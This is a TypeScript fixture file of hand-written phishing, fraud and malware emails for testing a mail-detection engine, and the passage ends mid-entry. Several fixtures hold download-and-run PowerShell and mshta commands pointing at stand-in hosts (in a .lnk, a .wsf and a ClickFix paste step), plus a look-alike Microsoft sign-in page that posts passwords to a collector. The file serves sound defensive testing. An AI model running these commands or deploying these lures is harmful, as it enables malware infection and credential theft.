// A fourth blind batch of hand-written phishing, fraud and malware (2024–2026), written without
// reading the detection code, to measure the engine on mail nobody tuned it to. Its weight is
// on what the first three batches under-represent: plain, short mail (two to four sentences, no
// HTML); mail whose only lure is its subject or an attachment's name; mixed languages (an
// English brand template carrying Spanish, Portuguese, German or Dutch text); and lures aimed
// at businesses: purchase orders, shipping documents, tenders, supplier portals, customs
// brokers and accounting software (Xero, DATEV, Exact Online, Omie, Chorus Pro).
// Criminal infrastructure uses invented names and documentation IP ranges; real brand domains
// appear only where the brand's own service is abused or spoofed.

import QRCode from 'qrcode';

import { isoImage, shortcut, zip } from './formats-builders.ts';
import { attachment, document, gmailBody, html, LIST_UNSUBSCRIBE_POST, mail, multipart, plain } from './mail-builder.ts';
import type { PhishingCase } from './phishing-mail-cases.ts';

/** A QR code as the PNG picture quishing mail carries. */
async function qrPng(text: string): Promise<Uint8Array> {
  return new Uint8Array(await QRCode.toBuffer(text, { type: 'png', scale: 6, margin: 4 }));
}

const ES_QR = await qrPng('https://firma-convenio.pages.dev/?e=bGF1cmEubW9yZW5vQGdydXBvYWx0YXZpc3RhLmVz');
const BR_QR = await qrPng('https://pix-condominio-pagamento.sbs/c/8841?u=YmxvY28tYjIwNA==');

/** SendGrid's fields: the X-SG-EID and X-Entity-ID of the account, its click-tracking host. */
export function sendgridHeaders(eid: string): readonly string[] {
  return [`X-SG-EID: u001.${eid}`, `X-Entity-ID: u001.${eid.slice(0, 12)}==`];
}

/** Mailchimp's list fields for an account `u` and list `id`. */
export function mailchimpHeaders(account: string, dc: string, u: string, id: string): readonly string[] {
  return [
    `List-Unsubscribe: <https://${account}.${dc}.list-manage.com/unsubscribe?u=${u}&id=${id}&t=b&e=5c1e9a7f20&c=8b2d4f6a1e>, <mailto:unsubscribe-mc.${dc}_${u}.8b2d4f6a1e-5c1e9a7f20@unsubscribe.mailchimpapp.net?subject=unsubscribe>`,
    LIST_UNSUBSCRIBE_POST,
    `List-ID: ${u}mc list <${u}.${id}.list-id.mcsv.net>`,
    `X-MC-User: ${u}`,
    `Feedback-ID: 1183554:1183554+8b2d4f6a1e:${dc}:mc`,
  ];
}

/** A look-alike sign-in form saved as an attachment, posting to the collector. */
function credentialPage(title: string, email: string, action: string, prompt: string): string {
  return `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${title}</title></head><body style="font-family:Segoe UI,Arial">
<div style="width:360px;margin:60px auto;padding:32px;border:1px solid #ddd"><img src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg" width="108"><h2>${prompt}</h2>
<form id="f" method="post"><input name="login" value="${email}" readonly><input name="passwd" type="password" placeholder="Password"><button>Sign in</button></form></div>
<script>document.getElementById("f").action=atob("${Buffer.from(action).toString('base64')}");</script></body></html>`;
}

export const FOURTH_CASES: readonly PhishingCase[] = [
  // ---------------------------------------------------------------- English
  {
    // The commonest malware mail of 2024–2025 in small manufacturing: three lines from a
    // customer's hijacked mailbox (its own DKIM passes) and a ZIP whose "PDF" is a shortcut
    // that starts PowerShell. Only the attachment's name carries the lure.
    name: 'Three-line "revised PO attached" from a hijacked customer mailbox, ZIP holding a PDF-named shortcut',
    lang: 'en',
    lure: 'malware',
    expect: ['malware'],
    raw: mail({
      from: 'Dave Hollis <dhollis@tri-countyfabrication.com>',
      to: 'Sales <sales@keystonefasteners.com>',
      subject: 'Revised PO 88214',
      date: 'Tue, 4 Feb 2025 14:22:51 -0500',
      messageId: 'CAB7x2kQ9mP4vT1wR8nL3hF6dJ0sY5cG@mail.tri-countyfabrication.com',
      dkim: ['tri-countyfabrication.com:default'],
      relay: 'mail.tri-countyfabrication.com [198.51.100.61]',
      body: multipart('mixed', [
        plain('Hi,\n\nPlease see revised PO attached and confirm lead time.\n\nThanks\nDave'),
        attachment(
          'PO_88214_rev2.zip',
          'application/zip',
          zip({
            'PO_88214_rev2.pdf.lnk': shortcut(
              '..\\..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
              '-w h -nop -c "iex(iwr -useb https://files-dl.tri-cdn.top/p.ps1)"',
            ),
          }),
        ),
      ]),
    }),
  },
  {
    // Freight-forwarder lure: a "bill of lading and packing list" as a disk image with an
    // executable inside, from a Gmail address named after a shipping line. Body of one line.
    name: 'Maersk-named Gmail sends "BL draft + packing list" as an .img disk image with an executable',
    lang: 'en',
    lure: 'malware',
    expect: ['malware'],
    raw: mail({
      from: 'Maersk Line Documentation <maerskline.docs.cn@gmail.com>',
      to: 'imports@brightwaterhome.co.uk',
      subject: 'BL draft / packing list – MAEU 238104557 – please confirm',
      date: 'Mon, 9 Jun 2025 03:41:16 +0000',
      messageId: 'CAH4mQ8xP2vR9tK1wN7bL5cF3dJ6sY0g_kT7pX=@mail.gmail.com',
      dkim: ['gmail.com:20230601'],
      relay: 'mail-sor-f41.google.com [209.85.220.41]',
      body: multipart('mixed', [
        plain('Dear customer,\nKindly check the draft BL and packing list attached and confirm before vessel cut-off.\nRegards,\nDocumentation Dept.'),
        attachment('MAEU238104557_BL_PL.img', 'application/octet-stream', isoImage(['MAEU238104557_BL_PL.EXE'])),
      ]),
    }),
  },
  {
    // Tender lure aimed at contractors: a compromised engineering consultancy (DKIM passes)
    // invites to tender; the "documents" are a Google Sites page behind a Microsoft sign-in.
    name: 'Invitation to tender from a compromised consultancy, tender pack on Google Sites behind a sign-in',
    lang: 'en',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Procurement | Aldridge Consulting Engineers <procurement@aldridge-ce.co.uk>',
      to: 'Estimating <estimating@northgateroofing.co.uk>',
      subject: 'ITT-2025-117: Invitation to Tender – Roof refurbishment, Block C',
      date: 'Wed, 16 Apr 2025 10:05:33 +0100',
      messageId: 'LO2P265MB4471E2C9A1F7B30D5E8C6F2A1B4D9@LO2P265MB4471.GBRP265.PROD.OUTLOOK.COM',
      dkim: ['aldridge-ce.co.uk:selector1'],
      relay: 'mail-lo2gbr01on2139.outbound.protection.outlook.com [40.107.10.139]',
      body: document([
        'Good morning,',
        'You are invited to tender for the roof refurbishment of Block C. The tender pack (drawings, specification and pricing schedule) is available on our tender portal. Returns are due by 12:00 on 30 April.',
        { button: 'Access tender documents', href: 'https://sites.google.com/view/aldridge-tender-itt2025117/home' },
        'Kind regards,\nProcurement Team\nAldridge Consulting Engineers',
      ]),
    }),
  },
  {
    // Supplier-portal lure: "Coupa" asks a supplier to re-verify its account before the payment
    // run, sent through SendGrid from a throw-away .top domain; the link is SendGrid's tracker.
    name: 'Coupa supplier portal "re-verify your remit-to details before the payment run" via SendGrid from a .top',
    lang: 'en',
    lure: 'account-alert',
    expect: ['phishing'],
    todo: 'spam/low: sender_domain_suspicious_tld, auth_results_missing, content_bulk_marketing; no supplier-portal lexicon ("verify remit-to details", "invoices will be held until the next cycle") and Coupa is not a listed brand; the SendGrid click tracker hides the .top target, so only a throw-away sender domain in a bulk-looking mail remains and bulk_from_spam_infrastructure calls it spam',
    raw: mail({
      from: 'Coupa Supplier Portal <no-reply@coupa-supplierportal.top>',
      to: 'ar@meridianpackaging.com',
      subject: 'Action required: remit-to verification before payment run 06/27',
      date: 'Tue, 24 Jun 2025 16:18:02 +0000',
      messageId: 'Yk3pR8vT2mQ9wN1xL5bC7d@geopod-ismtpd-12',
      dkim: ['coupa-supplierportal.top:s1', 'sendgrid.info:smtpapi'],
      returnPath: 'bounces+41830277-6c2e-ar=meridianpackaging.com@em4182.coupa-supplierportal.top',
      relay: 'o1678912x33.outbound-mail.sendgrid.net [149.72.124.33]',
      headers: sendgridHeaders('Rk8vP2mT9qN4wX1yZ3bC5dF8hJ0lL6nPa'),
      body: document([
        { heading: 'Remit-to verification required' },
        'Your customer has scheduled a payment run for 06/27. Invoices from suppliers whose remit-to details are not verified will be held until the next cycle.',
        { button: 'Verify remit-to details', href: 'https://u41830277.ct.sendgrid.net/ls/click?upn=u001.Qm7Rk2pT9vN4wX1yZ3bC5dF8hJ0lL6nP-2BRk7Xm' },
        { small: 'Coupa Software Inc. This is an automated notification.' },
      ]),
    }),
  },
  {
    // Business e-mail compromise through a genuine platform: a hijacked supplier's real Xero
    // account sends its invoice, and the invoice note moves payment to a new bank account.
    name: 'Real Xero invoice from a hijacked supplier whose note says "our bank has changed, pay the new account only"',
    lang: 'en',
    lure: 'bec',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Harlow Timber Supplies <messaging-service@post.xero.com>',
      to: 'accounts@pennantjoinery.co.uk',
      replyTo: 'harlowtimber.accounts@outlook.com',
      subject: 'Invoice INV-4471 from Harlow Timber Supplies for Pennant Joinery',
      date: 'Thu, 11 Sep 2025 09:47:12 +0000',
      messageId: '0102019935f2a1c7-8e4b2d19-7a6c-4f3e-b1d5-9c8e7f6a5b4d-000000@eu-west-1.amazonses.com',
      dkim: ['post.xero.com:xero1', 'amazonses.com:uku4taia5b5tsbglxyj6zym32efj7xqv'],
      returnPath: '0102019935f2a1c7-8e4b2d19-7a6c-4f3e-b1d5-9c8e7f6a5b4d-000000@eu-west-1.amazonses.com',
      relay: 'a7-14.smtp-out.eu-west-1.amazonses.com [54.240.7.14]',
      body: document([
        'Hi Accounts,',
        "Here's invoice INV-4471 for GBP 18,640.00. The amount outstanding is due on 18 Sep 2025.",
        'IMPORTANT: following our annual audit our bank details have changed. Please pay to our new account only (Harlow Timber Supplies Ltd, sort code 04-00-75, account 41887203) and send the remittance to harlowtimber.accounts@outlook.com. Payments to the old account will be returned.',
        { button: 'View invoice', href: 'https://in.xero.com/Lq7R2kP9vT4mN1wX8bC5dF3hJ6sY0gZaQe' },
        'Thanks,\nHarlow Timber Supplies',
      ]),
    }),
  },
  {
    // Customs-broker lure, short and plain from a free mailbox: an import held until EORI and
    // duties are paid on a .icu page.
    name: 'Customs broker on Outlook.com: import held, send EORI and pay £38.20 duties on a .icu link',
    lang: 'en',
    lure: 'parcel',
    expect: ['phishing', 'fraud'],
    todo: 'clean/low: link_suspicious_tld, auth_results_missing, sender_freemail; an unbranded duty demand is not read as a payment request ("pending your EORI number and import duty of £38.20", "complete both here today to avoid storage charges"): the parcel intent only counts through content_brand_lure, which needs a brand',
    raw: mail({
      from: 'UK Customs Clearance Desk <clearance.desk.uk@outlook.com>',
      to: 'orders@fernleaf-crafts.co.uk',
      subject: 'Import entry on hold – EORI and duty required',
      date: 'Fri, 7 Mar 2025 11:02:44 +0000',
      messageId: 'DB9P193MB1522C1E8A2F4B9D7E0C3A6F5B1E2D@DB9P193MB1522.EURP193.PROD.OUTLOOK.COM',
      dkim: ['outlook.com:selector1'],
      relay: 'mail-db8eur05olkn2104.outbound.protection.outlook.com [40.92.89.104]',
      body: plain(
        'Hello,\n\nYour consignment from Shenzhen (2 cartons, 18.4 kg) is held at Heathrow pending your EORI number and import duty of £38.20. Please complete both here today to avoid storage charges: https://uk-clearance-portal.icu/entry/UK88412\n\nClearance Desk',
      ),
    }),
  },
  {
    // "ClickFix" without any page: IT "support" tells the reader in plain text to paste a
    // command into Win+R to fix Outlook. Look-alike of the company domain, no link to click.
    name: 'Plain "Outlook sync error fix": paste an mshta command into Win+R, from a look-alike IT domain (ClickFix)',
    lang: 'en',
    lure: 'malware',
    expect: ['malware', 'phishing'],
    raw: mail({
      from: 'IT Helpdesk <helpdesk@brenmore-it.com>',
      to: 'Sophie Grant <sgrant@brenmore.com>',
      subject: 'Fix for Outlook sync error 0x8004010F',
      date: 'Mon, 17 Mar 2025 08:31:09 +0000',
      messageId: '67d7ddad.050a0220.2f4b1c.9e31@brenmore-it.com',
      dkim: ['brenmore-it.com:google'],
      relay: 'mail-wm1-f45.google.com [209.85.128.45]',
      auth: { dmarc: 'none' },
      body: plain(
        'Hi Sophie,\n\nWe have pushed a fix for the Outlook sync error several users reported this morning. Press Windows key + R, paste the line below and press Enter:\n\nmshta https://outlook-syncfix.brenmore-it.com/fix.hta\n\nThanks,\nIT Helpdesk',
      ),
    }),
  },
  {
    // The lure lives only in the subject and the file name: an empty body and an HTML
    // "remittance" that is a Microsoft sign-in page with the reader's address filled in.
    name: 'Empty body, subject "Wire confirmation $48,250.00", HTML remittance that is a sign-in page',
    lang: 'en',
    lure: 'html-attachment',
    expect: ['phishing'],
    raw: mail({
      from: 'Treasury <treasury@summitcrest-holdings.net>',
      to: 'Lauren Bates <lbates@calloway-electric.com>',
      subject: 'Wire confirmation $48,250.00 – remittance copy',
      date: 'Wed, 21 May 2025 17:55:40 +0000',
      messageId: '20250521175540.3c7e1@summitcrest-holdings.net',
      relay: 'vps-41.summitcrest-holdings.net [203.0.113.141]',
      auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
      body: multipart('mixed', [
        plain(''),
        attachment(
          'Remittance_Copy_48250.html',
          'text/html',
          credentialPage('Remittance', 'lbates@calloway-electric.com', 'https://rmt-collect.summitcrest-holdings.net/p.php', 'Sign in to view remittance'),
        ),
      ]),
    }),
  },
  {
    // Wallet drainer through a hijacked Mailchimp account of a yoga studio: "your USDC approval
    // expires", connect the wallet to "revoke" it on a .xyz dApp.
    name: 'Coinbase Wallet "revoke the USDC approval before it expires" through a yoga studio\'s hijacked Mailchimp',
    lang: 'en',
    lure: 'crypto',
    expect: ['phishing'],
    raw: mail({
      from: 'Coinbase Wallet <hello@lotusflowyoga.com>',
      to: 'tyler.nguyen92@gmail.com',
      subject: 'Security notice: unlimited USDC approval detected on your wallet',
      date: 'Sat, 26 Jul 2025 19:12:03 +0000',
      messageId: '7a3e1c9f0b2d4e6a8c1f.20250726191203@mail81.atl221.mcsv.net',
      dkim: ['lotusflowyoga.com:k1', 'mcsv.net:k3'],
      returnPath: 'bounce-mc.us21_71833014.2217446-5c1e9a7f20@mail81.atl221.mcsv.net',
      relay: 'mail81.atl221.mcsv.net [198.2.139.81]',
      headers: mailchimpHeaders('lotusflowyoga', 'us21', 'c7a2e91f4b3d08e6a15c7b2d9', 'e4f1a3c90b'),
      body: document(
        [
          { heading: 'Unlimited token approval detected' },
          'A contract was granted unlimited spending of USDC from your wallet. Revoke the approval within 24 hours to keep your funds safe.',
          { button: 'Connect wallet and revoke', href: 'https://revoke-approvals-cbwallet.xyz/connect' },
          { small: 'You are receiving this email because you opted in via our website.' },
        ],
        { htmlOnly: true },
      ),
    }),
  },
  {
    // Fake MFA reset sent through a hijacked ActiveCampaign account: "Duo removed your device,
    // re-enrol" with a look-alike sign-in on a .cfd.
    name: 'Duo "your device was removed, re-enrol today" through a hijacked ActiveCampaign account, .cfd link',
    lang: 'en',
    lure: 'account-alert',
    expect: ['phishing'],
    todo: 'spam/low: link_suspicious_tld, auth_results_missing, content_bulk_marketing; no MFA re-enrolment phrases ("re-enrol device", "until you re-enrol you will not be able to sign in") and Duo is not a listed brand, so a brand display name on a foreign domain is not seen; the ESP list headers make bulk_from_spam_infrastructure call it spam',
    raw: mail({
      from: 'Duo Security <alerts@pinecrestdental.com>',
      to: 'Marcus Webb <mwebb@hollowayfreight.com>',
      subject: 'Your Duo device was removed',
      date: 'Tue, 14 Oct 2025 12:40:27 +0000',
      messageId: '20251014124027.88214.1a7c@s12.acems1.com',
      dkim: ['pinecrestdental.com:dk', 'acems1.com:dk'],
      returnPath: 'bounce-2c7e-88214-4471-mwebb=hollowayfreight.com@s12.acems1.com',
      relay: 's12.acems1.com [192.92.97.212]',
      headers: [
        'List-Unsubscribe: <https://pinecrestdental.activehosted.com/proc.php?nl=3&c=88214&m=4471&s=2c7e1a9f&act=unsub>',
        LIST_UNSUBSCRIBE_POST,
        'X-mid: bXdlYmJAaG9sbG93YXlmcmVpZ2h0LmNvbQ== c88214 m4471',
        'X-Sender: pinecrestdental@activehosted.com',
      ],
      body: document([
        'Your phone was removed from Duo Mobile by an administrator. Until you re-enrol, you will not be able to sign in to VPN or email.',
        { button: 'Re-enrol device', href: 'https://duo-enroll-hollowayfreight.cfd/frame/enroll' },
      ]),
    }),
  },
  {
    // HR/benefits lure from a throw-away domain: open-enrolment "selections required", with a
    // link to a form on Microsoft Forms that asks for the Microsoft 365 password.
    name: 'Benefits open enrolment "selections not saved" linking a Microsoft Forms page that asks for the password',
    lang: 'en',
    lure: 'account-alert',
    expect: ['phishing'],
    raw: mail({
      from: 'Benefits Administration <benefits@hr-enrollment-center.com>',
      to: 'Karen Liu <kliu@orchardvalleyfoods.com>',
      subject: '2026 open enrollment: your selections were not saved',
      date: 'Mon, 10 Nov 2025 15:26:44 +0000',
      messageId: 'f3a91c2e-7b4d-4e8a-a1c5-2d9b7e6f0a43@hr-enrollment-center.com',
      dkim: ['hr-enrollment-center.com:s1'],
      relay: 'smtp.hr-enrollment-center.com [203.0.113.77]',
      auth: { dmarc: 'none' },
      body: plain(
        'Hi Karen,\n\nOur records show your 2026 medical and dental selections were not saved. Employees without saved selections default to employee-only coverage on Jan 1. Please confirm with your company login here: https://forms.office.com/r/Qm7Rk2pT9v\n\nBenefits Administration',
      ),
    }),
  },
  {
    // Inheritance fraud, plain and short from a free mailbox: an "estate agent in Spain" seeks
    // the next of kin of a client who shares the reader's surname.
    name: 'Four-line "estate of a late client with your surname" from a Gmail lawyer in Madrid',
    lang: 'en',
    lure: 'advance-fee',
    expect: ['fraud'],
    raw: mail({
      from: 'Barrister Alvaro Ruiz <alvaro.ruiz.abogados1@gmail.com>',
      to: 'd.fletcher@btinternet.com',
      subject: 'Estate of late Mr. Robert Fletcher',
      date: 'Thu, 3 Jul 2025 07:14:58 +0000',
      messageId: 'CAJ9pQ2xM7vR4tK1wN8bL3cF5dJ6sY0h_mT8qX@mail.gmail.com',
      dkim: ['gmail.com:20230601'],
      relay: 'mail-lj1-f176.google.com [209.85.208.176]',
      body: gmailBody(
        'Good day,\nI am the attorney to late Mr. Robert Fletcher who died with his family in Valencia and left €6,850,000.00 in a fixed deposit without a will. As you share the same surname, I want to present you as next of kin so the funds can be released to you. Reply with your full name and phone number for details.\nBarrister Alvaro Ruiz',
      ),
    }),
  },

  // ---------------------------------------------------------------- Spanish
  {
    // Subject-and-file-name lure: two words of body, an HTML "justificante" with a double
    // extension that is a Microsoft sign-in page, from a small business with valid DKIM.
    name: 'Justificante de transferencia como .pdf.html que pide la contraseña, cuerpo de dos líneas',
    lang: 'es',
    lure: 'html-attachment',
    expect: ['phishing'],
    todo: 'malware/high: link_credential_form, attachment_name_deceptive, attachment_html, link_in_attachment, content_payment_request, auth_results_missing; caught as malware, not phishing: attachment_name_deceptive + attachment_html makes disguised_attachment decide malware, which takes precedence over the credential form inside; an HTML sign-in page with a double extension harvests passwords and runs nothing',
    raw: mail({
      from: 'Administración <administracion@suministros-olmedo.es>',
      to: 'contabilidad@talleresgarciaruiz.es',
      subject: 'Justificante transferencia SEPA – pago facturas marzo',
      date: 'Mon, 31 Mar 2025 12:08:30 +0200',
      messageId: '2c7e1a9f.4b3d.4e8a@suministros-olmedo.es',
      dkim: ['suministros-olmedo.es:default'],
      relay: 'smtp.suministros-olmedo.es [198.51.100.23]',
      body: multipart('mixed', [
        plain('Buenos días,\nadjunto justificante.\nSaludos'),
        attachment(
          'Justificante_SEPA_310325.pdf.html',
          'text/html',
          credentialPage(
            'Justificante',
            'contabilidad@talleresgarciaruiz.es',
            'https://docs-view.suministros-olmedo.es/wp-admin/js/j.php',
            'Inicie sesión para ver el documento',
          ),
        ),
      ]),
    }),
  },
  {
    // Mixed language: DHL Express's English template ("Your shipment is on hold") with the
    // Spanish text dropped in, sent through SendGrid from a .shop domain.
    name: 'Plantilla inglesa de DHL Express con texto en español: "pague 2,99 € de aduana", SendGrid desde un .shop',
    lang: 'es',
    lure: 'parcel',
    expect: ['phishing', 'fraud'],
    raw: mail({
      from: 'DHL Express <noreply@dhl-express-envios.shop>',
      to: 'rocio.navarro@hotmail.es',
      subject: 'DHL Express – Your shipment is on hold / Su envío está retenido',
      date: 'Wed, 2 Apr 2025 18:40:11 +0000',
      messageId: 'Tq9wR2mK7vP4xN1yL5bC8d@geopod-ismtpd-7',
      dkim: ['dhl-express-envios.shop:s1', 'sendgrid.info:smtpapi'],
      returnPath: 'bounces+39114208-a7c1-rocio.navarro=hotmail.es@em7731.dhl-express-envios.shop',
      relay: 'o16.ptr3321.dhl-express-envios.shop [149.72.201.16]',
      headers: sendgridHeaders('Wp3mK8vT2qR9nX1yZ4bC6dF7hJ0lL5nQb'),
      body: document([
        { heading: 'Your shipment is on hold' },
        'Estimado cliente: su envío 7748 2190 33 está retenido en aduanas de Madrid. Para liberarlo debe abonar los gastos de gestión aduanera.',
        {
          rows: [
            ['Waybill', '7748219033'],
            ['Amount due', '2,99 EUR'],
            ['Status', 'On hold – customs'],
          ],
        },
        { button: 'Pay now / Pagar ahora', href: 'https://u39114208.ct.sendgrid.net/ls/click?upn=u001.Lp4Rk7mT2vN9wX1yZ3bC5dF8hJ0' },
        { small: '© 2025 DHL International GmbH. All rights reserved.' },
      ]),
    }),
  },
  {
    // Public-tender lure at construction firms: a hijacked consultancy's mailbox (DKIM passes)
    // announces a tender whose "pliegos" sit on a Google Sites page behind a sign-in.
    name: 'Licitación de un ayuntamiento desde una consultora comprometida: pliegos en Google Sites tras iniciar sesión',
    lang: 'es',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Licitaciones · Ingeniería Vértice <licitaciones@ingenieriavertice.es>',
      to: 'ofertas@construccionesbarbastro.com',
      subject: 'Invitación a presentar oferta – Expte. 2025/LIC/0418 Urbanización sector norte',
      date: 'Thu, 22 May 2025 09:33:17 +0200',
      messageId: 'PAXP193MB2214F1C8E2A9B47D3E6C5A0F2B1D8@PAXP193MB2214.EURP193.PROD.OUTLOOK.COM',
      dkim: ['ingenieriavertice.es:selector1'],
      relay: 'mail-db8eur05on2071.outbound.protection.outlook.com [40.107.20.71]',
      body: document([
        'Buenos días:',
        'Por encargo del Ayuntamiento les invitamos a presentar oferta para las obras de urbanización del sector norte. Los pliegos y el presupuesto de referencia están disponibles en nuestra plataforma hasta el 5 de junio.',
        { button: 'Descargar pliegos', href: 'https://sites.google.com/view/vertice-licitacion-2025-0418/inicio' },
        'Un saludo,\nDepartamento de Licitaciones',
      ]),
    }),
  },
  {
    // Supplier-portal lure: "SAP Ariba" asks a supplier to update its bank details or lose the
    // contract, from a .top domain; plain text, one link.
    name: 'SAP Ariba falso: "actualice sus datos bancarios en el portal de proveedores o quedará bloqueado", .top',
    lang: 'es',
    lure: 'account-alert',
    expect: ['phishing'],
    raw: mail({
      from: 'SAP Ariba Proveedores <proveedores@ariba-network-portal.top>',
      to: 'facturacion@envasesdellevante.es',
      subject: 'Su cuenta de proveedor será bloqueada el 15/09',
      date: 'Mon, 8 Sep 2025 07:55:02 +0000',
      messageId: '20250908075502.a91c2e7b@ariba-network-portal.top',
      dkim: ['ariba-network-portal.top:mail'],
      relay: 'mail.ariba-network-portal.top [203.0.113.92]',
      auth: { dmarc: 'none' },
      body: plain(
        'Estimado proveedor:\n\nSu perfil en Ariba Network no tiene los datos bancarios validados. Si no los actualiza antes del 15/09 su cuenta se bloqueará y las facturas pendientes no se pagarán.\n\nAcceda aquí: https://ariba-network-portal.top/supplier/login\n\nSAP Business Network',
      ),
    }),
  },
  {
    // Authority lure against small companies: the TGSS (Social Security) "embargo" of the
    // company's account for unpaid contributions, from a .icu domain.
    name: 'TGSS: "diligencia de embargo de cuentas por deuda de cotizaciones", consultar en un .icu',
    lang: 'es',
    lure: 'authority',
    expect: ['phishing', 'fraud'],
    raw: mail({
      from: 'Tesorería General de la Seguridad Social <notificaciones@seg-social-sede.icu>',
      to: 'gerencia@reformasaltozano.es',
      subject: 'Diligencia de embargo de cuentas bancarias – Ref. 28/2025/0041187',
      date: 'Tue, 17 Jun 2025 10:12:40 +0200',
      messageId: '1750147960.41187@seg-social-sede.icu',
      relay: 'srv1.seg-social-sede.icu [203.0.113.58]',
      auth: { dkim: 'none', spf: 'pass', dmarc: 'none' },
      body: plain(
        'Se le comunica que, por deuda de cotizaciones del 4.º trimestre de 2024, se ha dictado diligencia de embargo de sus cuentas bancarias. Puede consultar el expediente y abonar la deuda antes de su ejecución en: https://seg-social-sede.icu/expediente/0041187\n\nUnidad de Recaudación Ejecutiva',
      ),
    }),
  },
  {
    // Callback through PayPal's own money request: the English PayPal template with a Spanish
    // note from "Soporte Técnico Microsoft" that says to call to cancel.
    name: 'Solicitud de dinero real de PayPal de "Soporte Técnico Microsoft" por 489 €: plantilla en inglés, nota en español, llamar',
    lang: 'es',
    lure: 'callback',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'PayPal <service@paypal.es>',
      to: 'jorge.medina71@gmail.com',
      subject: 'Soporte Tecnico Microsoft sent you a request for €489.00 EUR',
      date: 'Fri, 14 Feb 2025 20:03:51 -0800',
      messageId: 'RT000248.d7b4f9a21c3e5@paypal.com',
      dkim: ['paypal.es:pp-dkim1'],
      returnPath: 'service@paypal.es',
      relay: 'mx0.slc.paypal.com [173.0.84.226]',
      body: document([
        { heading: 'Soporte Tecnico Microsoft sent you a request for €489.00 EUR' },
        {
          rows: [
            [
              'Note from Soporte Tecnico Microsoft',
              'Su licencia de Microsoft 365 se ha renovado por 3 años. Si no ha autorizado este cargo llame al +34 910 48 27 66 para la cancelación y el reembolso. No pague por PayPal.',
            ],
            ['Amount requested', '€489.00 EUR'],
          ],
        },
        { button: 'Pay Now', href: 'https://www.paypal.com/myaccount/transfer/requests/RT000248?locale.x=es_ES' },
        { small: 'PayPal Europe S.à r.l. et Cie, S.C.A.' },
      ]),
    }),
  },
  {
    // Advance-fee inheritance in Spanish: a "notario" with a Hotmail address and a relative who
    // died in Canada.
    name: 'Notario desde Hotmail: herencia de un familiar fallecido en Canadá, envíe su DNI y teléfono',
    lang: 'es',
    lure: 'advance-fee',
    expect: ['fraud'],
    raw: mail({
      from: 'Notaría Ignacio Beltrán <notaria.ibeltran@hotmail.com>',
      to: 'marisa.ortega@telefonica.net',
      subject: 'Herencia pendiente a su nombre',
      date: 'Sun, 9 Mar 2025 13:24:06 +0000',
      messageId: 'AM7P189MB0993F2C1A8E4B7D9C0E5F3A6B2D1C@AM7P189MB0993.EURP189.PROD.OUTLOOK.COM',
      dkim: ['hotmail.com:selector1'],
      relay: 'mail-am7eur03olkn2019.outbound.protection.outlook.com [40.92.59.19]',
      body: plain(
        'Estimada Sra. Ortega:\n\nLe escribo como notario encargado de la herencia de D. Ernesto Ortega, fallecido en Toronto sin testamento, con un saldo de 2.370.000 € en un banco canadiense. Al compartir su apellido puede usted figurar como beneficiaria. Para iniciar el trámite envíeme copia de su DNI y un teléfono de contacto.\n\nAtentamente,\nIgnacio Beltrán, notario',
      ),
    }),
  },
  {
    // Loader in a ZIP named for the transport documents: a Windows Script File inside, sent
    // from a haulier's hijacked mailbox.
    name: 'Albarán y CMR en un ZIP con un .wsf, desde el buzón comprometido de una empresa de transportes',
    lang: 'es',
    lure: 'malware',
    expect: ['malware'],
    raw: mail({
      from: 'Tráfico · Transportes Hnos. Lafuente <trafico@transporteslafuente.com>',
      to: 'almacen@distribucionesmarin.es',
      subject: 'Albarán y CMR entrega 14/10',
      date: 'Tue, 14 Oct 2025 06:48:22 +0200',
      messageId: '000001dc3c8a$4f2e1a90$ed8b4fb0$@transporteslafuente.com',
      dkim: ['transporteslafuente.com:default'],
      relay: 'smtp.transporteslafuente.com [198.51.100.144]',
      body: multipart('mixed', [
        plain('Buenos días, os paso el albarán firmado y el CMR de la entrega de hoy.\nUn saludo'),
        attachment(
          'Albaran_CMR_1410.zip',
          'application/zip',
          zip({
            'Albaran_CMR_1410.pdf.wsf':
              '<job id="a"><script language="JScript">var s=new ActiveXObject("WScript.Shell");s.Run("powershell -w h -c iex(iwr -useb https://cdn-docs-cmr.top/a.ps1)",0);</script></job>',
          }),
        ),
      ]),
    }),
  },
  {
    // Quishing with nothing but a subject, one sentence and a QR picture: "firma del convenio"
    // from a Gmail address, the code leading to a sign-in on pages.dev.
    name: 'Firma del convenio: una frase y una imagen con un código QR, desde Gmail',
    lang: 'es',
    lure: 'qr-code',
    expect: ['phishing'],
    raw: mail({
      from: 'Recursos Humanos <rrhh.grupoaltavista@gmail.com>',
      to: 'Laura Moreno <laura.moreno@grupoaltavista.es>',
      subject: 'Firma del nuevo convenio colectivo – obligatorio antes del viernes',
      date: 'Wed, 19 Nov 2025 08:05:37 +0100',
      messageId: 'CAK2mP9xQ7vR4tL1wN8bJ3cF5dH6sY0i_nT9rX@mail.gmail.com',
      dkim: ['gmail.com:20230601'],
      relay: 'mail-ed1-f49.google.com [209.85.208.49]',
      body: multipart('mixed', [plain('Escanee el código con su móvil para firmar el convenio.'), attachment('convenio.png', 'image/png', ES_QR, true)]),
    }),
  },

  // ---------------------------------------------------------------- Brazilian Portuguese
  {
    // NF-e lure from a supplier's hijacked mailbox: DANFE and XML "in the ZIP", which holds a
    // batch file; three lines of body.
    name: 'DANFE e XML da NF-e num ZIP com um .bat, três linhas, do e-mail comprometido de um fornecedor',
    lang: 'pt-BR',
    lure: 'malware',
    expect: ['malware'],
    raw: mail({
      from: 'Faturamento Distribuidora Ipê <faturamento@distribuidoraipe.com.br>',
      to: 'compras@mercadinhoboavista.com.br',
      subject: 'NF-e 38221 - DANFE e XML',
      date: 'Thu, 6 Mar 2025 10:14:09 -0300',
      messageId: '6a2f1c9e-3b7d-4e8a-9c1f-0d2e5a8b7c4f@distribuidoraipe.com.br',
      dkim: ['distribuidoraipe.com.br:default'],
      relay: 'smtp.distribuidoraipe.com.br [198.51.100.202]',
      body: multipart('mixed', [
        plain('Bom dia,\nsegue DANFE e XML da NF-e 38221.\nAtt.'),
        attachment(
          'NFe_38221.zip',
          'application/zip',
          zip({
            'DANFE_38221.pdf.bat':
